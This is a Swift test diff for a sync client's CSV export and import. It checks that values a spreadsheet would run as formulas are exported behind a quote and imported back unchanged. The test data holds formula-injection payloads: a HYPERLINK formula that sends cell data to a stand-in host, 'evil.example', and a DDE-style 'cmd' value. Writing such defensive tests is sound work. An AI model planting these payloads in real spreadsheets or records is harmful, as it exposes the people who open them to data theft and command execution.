@@ -1,5 +1,6 @@
 import ClusterSyncClient
 import ClusterSyncCore
+import CSV
 import Foundation
 import Testing
 
@@ -61,6 +62,26 @@ import Testing
             #expect(made.mapValues(spec.name) == original.mapValues(spec.name), "\(spec.name)")
             if spec.kind.cardinality == .register { #expect(made.value(spec.name) == original.value(spec.name), "\(spec.name)") }
         }
+    }
+
+    /// A shared record may come from another practice: a value a spreadsheet would run as a
+    /// formula (`=`, `+`, `-`, `@` first) is exported behind a `'`, and imports back as it was.
+    @Test func formulasAreExportedAsTextAndImportBackAsTheyWere() throws {
+        let r = try makeReplica(dir, "a", practice: "prestatyn")
+        let planted = [#"=HYPERLINK("http://evil.example/?x="&A2,"Click")"#, "+cmd|' /c calc'!A0", "-2+3", "@SUM(1+1)"]
+        for title in planted { _ = try r.create(.risk, edits: [.set("title", s(title)), .set("owner", s("=1+1"))]) }
+        let csv = try r.exportCSV(.risk, today: fixedToday)
+        let rows = try CSVRows(csv)
+        let title = try #require(rows.header.firstIndex(of: "title")), owner = try #require(rows.header.firstIndex(of: "owner"))
+        #expect(Set(rows.body.map { $0[title] }) == Set(planted.map { "'" + $0 }), "\(csv)")
+        #expect(rows.body.allSatisfy { $0[owner] == "'=1+1" })
+        for row in rows.body {
+            #expect(!row.contains { ["=", "+", "-", "@"].contains($0.first) }, "no cell starts a formula: \(row)")
+        }
+        let before = try r.allChanges()
+        let outcome = try r.importCSV(csv, type: .risk)
+        #expect(outcome.problems == [] && outcome.unchanged == planted.count, "\(outcome)")
+        #expect(try r.allChanges() == before, "the guard comes off on import")
     }
 
     @Test func anEditedExportUpdatesByIDAndANewRowCreates() throws {
@@ -131,5 +152,21 @@ import Testing
         let unnamed = try r.importCSV("id,title,\n,a,\n,b,oops\n", type: .risk)
         #expect(unnamed.problems.map(\.description) == ["line 3: column 3 has a value but no name in the header row"])
         #expect(try r.allChanges() == before)
+    }
+}
+
+/// A CSV text's rows, read by the CSV library the import uses.
+struct CSVRows {
+    let header: [String]
+    let body: [[String]]
+
+    init(_ text: String) throws {
+        let reader = try CSVReader(string: text, hasHeaderRow: false)
+        header = reader.next() ?? []
+        var body: [[String]] = []
+        while let row = reader.next() {
+            if !row.allSatisfy(\.isEmpty) { body.append(row) }
+        }
+        self.body = body
     }
 }
